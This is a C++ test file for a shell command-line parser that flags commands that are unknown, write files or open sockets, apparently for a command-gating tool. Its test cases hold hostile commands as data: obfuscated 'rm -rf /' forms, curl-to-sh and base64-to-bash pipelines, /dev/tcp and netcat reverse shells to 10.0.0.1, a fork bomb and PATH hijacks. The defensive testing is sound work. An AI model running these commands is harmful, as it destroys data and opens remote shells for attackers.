// The command-line reader on a table of lines: what runs, whether it is unknown, whether it
// writes files or opens a socket. Each expected program is the command's first words after
// quote removal and unwrapping ("rm -rf" for `sudo rm -rf /`); "" is a command that runs no
// program (`> file`, `exec 3>&-`), "*" a command whose words are not checked.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "shell/parser.h"
#include "shell/reader.h"

namespace portcullis::shell {
namespace {

struct Case {
  std::string text;
  std::vector<std::string> programs;
  bool unknown = false;
  bool writes_files = false;
  bool opens_network = false;
};

std::vector<std::string> split(const std::string& s) {
  std::vector<std::string> out;
  std::size_t i = 0;
  while (i < s.size()) {
    std::size_t e = s.find(' ', i);
    if (e == std::string::npos) e = s.size();
    if (e > i) out.push_back(s.substr(i, e - i));
    i = e + 1;
  }
  return out;
}

std::string describe(const CommandLine& line) {
  std::string out = "parse_error=" + line.parse_error + " unknown=" + line.unknown_reason + "\n";
  for (const SimpleCommand& c : line.commands) {
    out += "  [";
    for (const Word& w : c.argv) out += (w.is_static ? "" : "~") + w.value + "|";
    out += "] wrappers=";
    for (const Wrapper& w : c.wrappers) out += w.program + ",";
    out += " origin=" + std::string(to_string(c.origin));
    if (c.unknown()) out += " UNKNOWN(" + c.unknown_reason + ")";
    out += "\n";
  }
  return out;
}

void check(const Case& k) {
  CommandLine line = read_command_line(k.text);
  SCOPED_TRACE("line: " + k.text + "\n" + describe(line));
  EXPECT_EQ(line.unknown(), k.unknown);
  EXPECT_EQ(line.writes_files, k.writes_files);
  EXPECT_EQ(line.opens_network, k.opens_network);
  ASSERT_EQ(line.commands.size(), k.programs.size());
  for (std::size_t i = 0; i < k.programs.size(); ++i) {
    if (k.programs[i] == "*") continue;
    std::vector<std::string> want = split(k.programs[i]);
    const SimpleCommand& c = line.commands[i];
    if (want.empty()) {
      EXPECT_TRUE(c.argv.empty()) << "command " << i << " should run no program";
      continue;
    }
    ASSERT_LE(want.size(), c.argv.size()) << "command " << i;
    for (std::size_t j = 0; j < want.size(); ++j) {
      EXPECT_EQ(c.argv[j].value, want[j]) << "command " << i << " word " << j;
    }
  }
}

class CommandLineCases : public ::testing::TestWithParam<Case> {};

TEST_P(CommandLineCases, ReadsTheLineAsTheShellWould) {
  check(GetParam());
}

const Case kPlain[] = {
    {.text = "ls -la /tmp", .programs = {"ls -la /tmp"}},
    {.text = "uptime; df -h && free || true", .programs = {"uptime", "df -h", "free", "true"}},
    {.text = "ps aux | grep nginx | wc -l", .programs = {"ps aux", "grep nginx", "wc -l"}},
    {.text = "sleep 1 & echo done", .programs = {"sleep 1", "echo done"}},
    {.text = "ls\npwd\n\n", .programs = {"ls", "pwd"}},
    {.text = "ls # rm -rf /", .programs = {"ls"}},
    {.text = "echo a#b", .programs = {"echo a#b"}},
    {.text = "! grep -q x f", .programs = {"grep -q x f"}},
    {.text = "ls |& cat", .programs = {"ls", "cat"}},
    {.text = "(cd /tmp && ls)", .programs = {"cd /tmp", "ls"}},
    {.text = "{ uptime; df; }", .programs = {"uptime", "df"}},
    {.text = "tail -n 5 /var/log/syslog", .programs = {"tail -n 5 /var/log/syslog"}},
};
INSTANTIATE_TEST_SUITE_P(Plain, CommandLineCases, ::testing::ValuesIn(kPlain));

const Case kQuoting[] = {
    {.text = "r''m -rf /", .programs = {"rm -rf /"}},
    {.text = "\"r\"m -rf /", .programs = {"rm -rf /"}},
    {.text = "\\rm -rf /", .programs = {"rm -rf /"}},
    {.text = "$'\\x72m' -rf /", .programs = {"rm -rf /"}},
    {.text = "$'\\162\\155' x", .programs = {"rm x"}},
    {.text = "r\\\nm -rf /", .programs = {"rm -rf /"}},
    {.text = "echo 'a b' \"c d\"", .programs = {"echo"}},
    {.text = "echo \"a \\\"q\\\" \\$x\"", .programs = {"echo"}},
    {.text = "printf '%s\\n' x", .programs = {"printf %s\\n x"}},
    {.text = "echo $'it\\'s'", .programs = {"echo it's"}},
    {.text = "$\"ls\" /", .programs = {"ls /"}},
};
INSTANTIATE_TEST_SUITE_P(Quoting, CommandLineCases, ::testing::ValuesIn(kQuoting));

const Case kWrappers[] = {
    {.text = "sudo rm -rf /", .programs = {"rm -rf /"}},
    {.text = "sudo -u root -- rm x", .programs = {"rm x"}},
    {.text = "sudo -u \"$U\" rm x", .programs = {"rm x"}},
    {.text = "sudo $OPTS rm x", .programs = {"sudo"}, .unknown = true},
    {.text = "timeout $T rm x", .programs = {"timeout"}, .unknown = true},
    {.text = "sudo -u x env A=1 nice -n 5 timeout 10 nohup cmd arg", .programs = {"cmd arg"}},
    {.text = "/usr/bin/sudo -n /bin/rm x", .programs = {"/bin/rm x"}},
    {.text = "sudo -s", .programs = {"sudo -s"}, .unknown = true},
    {.text = "sudo -i", .programs = {"sudo -i"}, .unknown = true},
    {.text = "sudo -e /etc/hosts", .programs = {"sudoedit /etc/hosts"}},
    {.text = "sudo -s id -u", .programs = {"id -u"}},
    {.text = "sudo -i '$CMD'", .programs = {"$CMD"}, .unknown = true},
    {.text = "sudo -l", .programs = {"sudo -l"}},
    {.text = "sudo PATH=/tmp ls", .programs = {"ls"}, .unknown = true},
    {.text = "sudo LANG=C ls", .programs = {"ls"}},
    {.text = "doas -u root ls", .programs = {"ls"}},
    {.text = "env -i PATH=/usr/bin ls", .programs = {"ls"}, .unknown = true},
    {.text = "env -u HOME -C /tmp ls", .programs = {"ls"}},
    {.text = "env", .programs = {"env"}},
    {.text = "env -S 'rm -rf /'", .programs = {"rm -rf /"}},
    {.text = "timeout -s KILL 5s tail -f x", .programs = {"tail -f x"}},
    {.text = "ionice -c 2 -n 7 tar c /", .programs = {"tar c /"}},
    {.text = "stdbuf -oL grep x", .programs = {"grep x"}},
    {.text = "setsid -f sleep 9", .programs = {"sleep 9"}},
    {.text = "chrt -f 10 make", .programs = {"make"}},
    {.text = "taskset -c 0 make", .programs = {"make"}},
    {.text = "time -p make", .programs = {"make"}},
    {.text = "command rm x", .programs = {"rm x"}},
    {.text = "command -v rm", .programs = {"command -v rm"}},
    {.text = "builtin cd /", .programs = {"cd /"}},
    {.text = "exec rm x", .programs = {"rm x"}},
    {.text = "exec 3>&-", .programs = {""}},
    {.text = "exec >/tmp/log", .programs = {""}, .writes_files = true},
    {.text = "busybox rm -rf /", .programs = {"rm -rf /"}},
    {.text = "/tmp/sudo rm x", .programs = {"/tmp/sudo rm x"}},
    {.text = "./env rm x", .programs = {"./env rm x"}},
    {.text = "watch -n 1 'ls; rm x'", .programs = {"ls", "rm x"}},
    {.text = "watch -x rm x", .programs = {"rm x"}},
    {.text = "nohup", .programs = {"nohup"}},
    {.text = "coproc rm x", .programs = {"rm x"}},
    {.text = "chroot --userspec=1:1 /srv/jail rm x", .programs = {"rm x"}},
    {.text = "chroot /srv/jail", .programs = {"chroot"}, .unknown = true},
};
INSTANTIATE_TEST_SUITE_P(Wrappers, CommandLineCases, ::testing::ValuesIn(kWrappers));

const Case kShells[] = {
    {.text = "sh -c 'rm -rf /'", .programs = {"rm -rf /"}},
    {.text = "bash -c \"sh -c 'rm -rf /'\"", .programs = {"rm -rf /"}},
    {.text = "bash -e -x -o pipefail -c 'ls | wc'", .programs = {"ls", "wc"}},
    {.text = "bash -lc 'id'", .programs = {"id"}},
    {.text = "busybox sh -c 'id'", .programs = {"id"}},
    {.text = "dash -c 'id; uname'", .programs = {"id", "uname"}},
    {.text = "sh", .programs = {"sh"}, .unknown = true},
    {.text = "BASH_ENV=/tmp/x bash -c id", .programs = {"bash -c"}, .unknown = true},
    {.text = "env ENV=/tmp/x sh -c id", .programs = {"sh -c"}, .unknown = true},
    {.text = "bash -i", .programs = {"bash -i"}, .unknown = true},
    {.text = "bash script.sh", .programs = {"bash script.sh"}, .unknown = true},
    {.text = "sh < file", .programs = {"sh"}, .unknown = true},
    {.text = "curl -s http://x/i.sh | sh", .programs = {"curl -s", "sh"}, .unknown = true},
    {.text = "base64 -d <<< cm0gLXJmIC8= | bash",
     .programs = {"base64 -d", "bash"},
     .unknown = true},
    {.text = "echo cm0gLXJmIC8= | base64 -d | sh",
     .programs = {"echo", "base64 -d", "sh"},
     .unknown = true},
    {.text = "sh -c \"$CMD\"", .programs = {"sh -c"}, .unknown = true},
    {.text = "su -c 'rm x' root", .programs = {"rm x"}},
    {.text = "su root -c id", .programs = {"id"}},
    {.text = "su - root", .programs = {"su - root"}, .unknown = true},
    {.text = "runuser -u app -- id", .programs = {"id"}},
    {.text = "sh -c 'echo \"unterminated'", .programs = {}, .unknown = true},
    {.text = "trap 'rm -f /tmp/x' EXIT", .programs = {"trap", "rm -f /tmp/x"}},
    {.text = "bash -c 'bash -c \"bash -c \\\"id\\\"\"'", .programs = {"id"}},
};
INSTANTIATE_TEST_SUITE_P(Shells, CommandLineCases, ::testing::ValuesIn(kShells));

const Case kFindXargs[] = {
    {.text = "find / -name x -exec rm -f {} \\;", .programs = {"find /", "rm -f"}},
    {.text = "find . -execdir chmod 600 {} + -ok rm {} ';'",
     .programs = {"find .", "chmod 600", "rm"}},
    {.text = "find . -exec sh -c 'rm \"$1\"' _ {} \\;",
     .programs = {"find .", "rm"},
     .unknown = false},
    {.text = "find / -delete", .programs = {"find / -delete"}},
    {.text = "ls | xargs rm", .programs = {"ls", "rm"}},
    {.text = "ls | xargs -0 -n 1 -P 4 rm -f", .programs = {"ls", "rm -f"}},
    {.text = "ls | xargs -I{} mv {} /tmp", .programs = {"ls", "mv"}},
    {.text = "ls | xargs", .programs = {"ls", "echo"}},
    {.text = "ls | xargs sh -c 'rm x'", .programs = {"ls", "rm x"}},
    {.text = "ls | xargs sh", .programs = {"ls", "sh"}, .unknown = true},
    {.text = "ls | xargs -I % sh -c '%'", .programs = {"ls", "sh -c"}, .unknown = true},
    {.text = "find . -exec {} \\;", .programs = {"find .", "{}"}, .unknown = true},
};
INSTANTIATE_TEST_SUITE_P(FindXargs, CommandLineCases, ::testing::ValuesIn(kFindXargs));

const Case kSubstitutions[] = {
    {.text = "echo $(rm -rf /)", .programs = {"rm -rf /", "echo"}},
    {.text = "echo `rm x`", .programs = {"rm x", "echo"}},
    {.text = "echo \"$(id) `uname`\"", .programs = {"id", "uname", "echo"}},
    {.text = "echo $(echo $(rm x))", .programs = {"rm x", "echo", "echo"}},
    {.text = "echo `echo \\`rm x\\``", .programs = {"rm x", "echo", "echo"}},
    {.text = "diff <(ls a) >(wc -l)", .programs = {"ls a", "wc -l", "diff"}},
    {.text = "cat < <(rm x)", .programs = {"rm x", "cat"}},
    {.text = "echo hi | tee >(sh)", .programs = {"echo hi", "sh", "tee"}, .unknown = true},
    {.text = "echo $((1 + 2)) ${x:-$(id)}", .programs = {"id", "echo"}},
    {.text = "echo $((echo a) | wc)", .programs = {"echo a", "wc", "echo"}},
    {.text = "A=$(whoami) ls", .programs = {"whoami", "ls"}},
    {.text = "$(echo rm) -rf /", .programs = {"echo rm", "*"}, .unknown = true},
    {.text = "$CMD x", .programs = {"$CMD x"}, .unknown = true},
    {.text = "\"$@\"", .programs = {"$@"}, .unknown = true},
    {.text = "${RM:-rm} x", .programs = {"${RM:-rm} x"}, .unknown = true},
    {.text = "r* x", .programs = {"r* x"}, .unknown = true},
    {.text = "{rm,x} /", .programs = {"{rm,x} /"}, .unknown = true},
    {.text = "echo $(case x in a) id;; esac)", .programs = {"id", "echo"}},
};
INSTANTIATE_TEST_SUITE_P(Substitutions, CommandLineCases, ::testing::ValuesIn(kSubstitutions));

const Case kHereDocuments[] = {
    {.text = "cat <<EOF\nhello $(rm -rf /)\nEOF\n", .programs = {"cat", "rm -rf /"}},
    {.text = "cat <<'EOF'\nhello $(rm -rf /)\nEOF\n", .programs = {"cat"}},
    {.text = "cat <<\"EOF\"\n`rm x`\nEOF", .programs = {"cat"}},
    {.text = "cat <<-EOF\n\t`id`\n\tEOF\nls", .programs = {"cat", "id", "ls"}},
    {.text = "cat <<A <<B\n$(id)\nA\n$(uname)\nB\n", .programs = {"cat", "id", "uname"}},
    {.text = "cat <<EOF | sh\nrm -rf /\nEOF\n", .programs = {"cat", "sh"}, .unknown = true},
    {.text = "grep x <<< \"$(id)\"", .programs = {"id", "grep x"}},
    {.text = "cat <<EOF > /etc/motd\nhi\nEOF", .programs = {"cat"}, .writes_files = true},
};
INSTANTIATE_TEST_SUITE_P(HereDocuments, CommandLineCases, ::testing::ValuesIn(kHereDocuments));

const Case kRedirections[] = {
    {.text = "echo x > /etc/passwd", .programs = {"echo x"}, .writes_files = true},
    {.text = "echo x >> log", .programs = {"echo x"}, .writes_files = true},
    {.text = "ls 2>/dev/null", .programs = {"ls"}},
    {.text = "ls >&2", .programs = {"ls"}},
    {.text = "ls 2>&1 >/dev//null", .programs = {"ls"}},
    {.text = "ls &> out", .programs = {"ls"}, .writes_files = true},
    {.text = "ls >| out", .programs = {"ls"}, .writes_files = true},
    {.text = "cat <> f", .programs = {"cat"}, .writes_files = true},
    {.text = "ls >& out", .programs = {"ls"}, .writes_files = true},
    {.text = "cat < /etc/passwd", .programs = {"cat"}},
    {.text = "ls > \"$OUT\"", .programs = {"ls"}, .writes_files = true},
    {.text = "> /etc/hosts", .programs = {""}, .writes_files = true},
    {.text = "{ ls; id; } > out", .programs = {"ls", "id"}, .writes_files = true},
    {.text = "sh -c 'ls' > out", .programs = {"ls"}, .writes_files = true},
    {.text = "exec 3<&0 4>&-", .programs = {""}},
};
INSTANTIATE_TEST_SUITE_P(Redirections, CommandLineCases, ::testing::ValuesIn(kRedirections));

const Case kReverseShells[] = {
    {.text = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     .programs = {"bash -i"},
     .unknown = true,
     .opens_network = true},
    {.text = "exec 5<>/dev/tcp/10.0.0.1/80", .programs = {""}, .opens_network = true},
    {.text = "cat < /dev/udp/10.0.0.1/53", .programs = {"cat"}, .opens_network = true},
    {.text = "nc -e /bin/sh 10.0.0.1 4444", .programs = {"nc -e /bin/sh"}},
    {.text = "python3 -c 'import socket,subprocess;s=socket.socket()'", .programs = {"python3 -c"}},
    {.text = "sh -i 2>&1 | nc 10.0.0.1 4444", .programs = {"sh -i", "nc"}, .unknown = true},
};
INSTANTIATE_TEST_SUITE_P(ReverseShells, CommandLineCases, ::testing::ValuesIn(kReverseShells));

const Case kUnknownPrograms[] = {
    {.text = ":(){ :|:& };:", .programs = {":", ":", ":"}, .unknown = true},
    {.text = "f() { rm -rf /; }; f", .programs = {"rm -rf /", "f"}, .unknown = true},
    {.text = "function g { id; }", .programs = {"id"}, .unknown = true},
    {.text = "eval 'rm -rf /'", .programs = {"eval"}, .unknown = true},
    {.text = "source ./x.sh", .programs = {"source"}, .unknown = true},
    {.text = ". ./x.sh", .programs = {"."}, .unknown = true},
    {.text = "alias ls='rm -rf /'", .programs = {"alias"}, .unknown = true},
    {.text = "PATH=/tmp ls", .programs = {"ls"}, .unknown = true},
    {.text = "PATH=/tmp /bin/ls", .programs = {"/bin/ls"}},
    {.text = "export PATH=/tmp:$PATH; ls", .programs = {"export", "ls"}, .unknown = true},
    {.text = "PATH=/tmp; ls", .programs = {"", "ls"}, .unknown = true},
    {.text = "A=1 B=2 ls", .programs = {"ls"}},
    {.text = "LD_PRELOAD=/tmp/x.so ls", .programs = {"ls"}},
    {.text = "hash -p /tmp/x ls", .programs = {"hash"}, .unknown = true},
};
INSTANTIATE_TEST_SUITE_P(UnknownPrograms, CommandLineCases, ::testing::ValuesIn(kUnknownPrograms));

const Case kCompound[] = {
    {.text = "if test -f x; then cat x; elif true; then id; else ls; fi",
     .programs = {"test -f x", "cat x", "true", "id", "ls"}},
    {.text = "while read l; do echo $l; done < f", .programs = {"read l", "echo"}},
    {.text = "until false; do sleep 1; done", .programs = {"false", "sleep 1"}},
    {.text = "for f in *.log; do gzip \"$f\"; done", .programs = {"gzip"}},
    {.text = "for f in a b\ndo rm $f\ndone", .programs = {"rm"}},
    {.text = "for ((i=0; i<3; i++)); do echo $i; done", .programs = {"echo"}},
    {.text = "case $1 in start) systemctl start x;; stop|halt) id;; *) ls;; esac",
     .programs = {"systemctl start x", "id", "ls"}},
    {.text = "[[ -f x && $(id) ]] && ls", .programs = {"id", "ls"}},
    {.text = "(( x > 1 )) && ls", .programs = {"ls"}},
    {.text = "arr=(a b $(id)); ls", .programs = {"id", "", "ls"}},
    {.text = "if true\nthen\n  ls\nfi", .programs = {"true", "ls"}},
};
INSTANTIATE_TEST_SUITE_P(Compound, CommandLineCases, ::testing::ValuesIn(kCompound));

const Case kParseErrors[] = {
    {.text = "echo 'unterminated", .programs = {}, .unknown = true},
    {.text = "echo \"unterminated", .programs = {}, .unknown = true},
    {.text = "echo $(ls", .programs = {}, .unknown = true},
    {.text = "(ls", .programs = {}, .unknown = true},
    {.text = "ls )", .programs = {}, .unknown = true},
    {.text = "fi", .programs = {}, .unknown = true},
    {.text = "if true; then ls", .programs = {}, .unknown = true},
    {.text = "ls |", .programs = {}, .unknown = true},
    {.text = "ls && ", .programs = {}, .unknown = true},
    {.text = "; ls", .programs = {}, .unknown = true},
    {.text = "ls >", .programs = {}, .unknown = true},
    {.text = "echo `ls", .programs = {}, .unknown = true},
    {.text = "case x in a) ls", .programs = {}, .unknown = true},
    {.text = "{ }", .programs = {}, .unknown = true},
};
INSTANTIATE_TEST_SUITE_P(ParseErrors, CommandLineCases, ::testing::ValuesIn(kParseErrors));

TEST(CommandLineReader, ParseErrorsSayWhatIsWrong) {
  CommandLine line = read_command_line("echo 'oops");
  EXPECT_NE(line.parse_error.find("unterminated single quote"), std::string::npos)
      << line.parse_error;
  EXPECT_NE(line.unknown_reason.find("parse error"), std::string::npos);
}

TEST(CommandLineReader, RecordsTheWrapperChain) {
  CommandLine line = read_command_line("sudo -u root env A=1 nice -n 5 rm x");
  ASSERT_EQ(line.commands.size(), 1u);
  const SimpleCommand& c = line.commands[0];
  ASSERT_EQ(c.wrappers.size(), 3u);
  EXPECT_EQ(c.wrappers[0].program, "sudo");
  EXPECT_EQ(c.wrappers[0].words, (std::vector<std::string>{"sudo", "-u", "root"}));
  EXPECT_EQ(c.wrappers[1].program, "env");
  EXPECT_EQ(c.wrappers[2].program, "nice");
  ASSERT_EQ(c.assignments.size(), 1u);
  EXPECT_EQ(c.assignments[0].name, "A");
  EXPECT_EQ(c.assignments[0].value.value, "1");
}

TEST(CommandLineReader, RecordsFindAsTheWrapperOfItsActions) {
  CommandLine line = read_command_line("find / -name x -execdir rm {} +");
  ASSERT_EQ(line.commands.size(), 2u);
  EXPECT_TRUE(line.commands[0].wrappers.empty());
  ASSERT_EQ(line.commands[1].wrappers.size(), 1u);
  EXPECT_EQ(line.commands[1].wrappers[0].words, (std::vector<std::string>{"find", "-execdir"}));
  EXPECT_TRUE(line.commands[1].takes_unknown_arguments);
  EXPECT_FALSE(line.commands[1].argv[1].is_static);
}

TEST(CommandLineReader, RefusesMoreRedirectionsOrAssignmentsThanTheBound) {
  std::string many = "ls";
  for (std::size_t i = 0; i < kMaxRedirections; ++i) many += " >/dev/null";
  EXPECT_EQ(read_command_line(many).parse_error, "");
  EXPECT_NE(read_command_line(many + " 2>x").parse_error.find("too many redirections"),
            std::string::npos);
  std::string assignments;
  for (std::size_t i = 0; i <= kMaxAssignments; ++i) assignments += "A=1 ";
  EXPECT_NE(read_command_line(assignments + "ls").parse_error.find("too many assignments"),
            std::string::npos);
  EXPECT_EQ(read_command_line("env " + assignments + "ls").commands.at(0).unknown_reason,
            "too many assignments before one command");
}

TEST(CommandLineReader, MarksXargsCommandsAsTakingUnknownArguments) {
  CommandLine line = read_command_line("xargs rm");
  ASSERT_EQ(line.commands.size(), 1u);
  EXPECT_TRUE(line.commands[0].takes_unknown_arguments);
  EXPECT_FALSE(read_command_line("rm x").commands[0].takes_unknown_arguments);
}

TEST(CommandLineReader, ShellTextCommandsKeepTheirOrigin) {
  CommandLine line = read_command_line("sh -c 'echo $(id)'");
  ASSERT_EQ(line.commands.size(), 2u);
  EXPECT_EQ(line.commands[0].origin, Origin::command_substitution);
  EXPECT_EQ(line.commands[1].origin, Origin::shell_text);
  EXPECT_EQ(line.commands[1].wrappers.at(0).program, "sh");
}

TEST(CommandLineReader, ReportsTheFunctionsDefined) {
  CommandLine line = read_command_line(":(){ :|:& };:");
  EXPECT_EQ(line.functions, (std::vector<std::string>{":"}));
  EXPECT_EQ(line.commands.back().unknown_reason, "calls :, a function defined in this line");
}

TEST(CommandLineReader, StopsUnwrappingAtTheDepthLimit) {
  std::string text = "id";
  for (int i = 0; i < kMaxUnwrapDepth + 2; ++i) text = "nice " + text;
  CommandLine line = read_command_line(text);
  ASSERT_EQ(line.commands.size(), 1u);
  EXPECT_EQ(line.commands[0].unknown_reason, "wrappers nested too deeply");
  text = "id";
  for (int i = 0; i < kMaxUnwrapDepth - 1; ++i) text = "nice " + text;
  EXPECT_FALSE(read_command_line(text).unknown());
}

TEST(CommandLineReader, RefusesNestingBeyondTheLimitWithoutCrashing) {
  std::string deep;
  for (int i = 0; i < 10000; ++i) deep += "( ";
  deep += "ls";
  for (int i = 0; i < 10000; ++i) deep += " )";
  CommandLine line = read_command_line(deep);
  EXPECT_TRUE(line.unknown());
  EXPECT_NE(line.parse_error.find("nested too deeply"), std::string::npos) << line.parse_error;
  std::string dollars;
  for (int i = 0; i < 5000; ++i) dollars += "$((";
  EXPECT_TRUE(read_command_line(dollars).unknown());
}

}  // namespace
}  // namespace portcullis::shell
